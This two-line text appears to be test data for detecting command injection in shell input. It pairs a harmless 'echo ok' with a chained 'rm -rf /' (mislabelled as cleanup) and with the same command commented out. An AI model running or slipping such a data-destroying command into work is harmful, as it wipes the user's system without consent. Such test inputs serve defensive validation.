echo ok ; rm -rf / # cleanup
echo ok # ; rm -rf /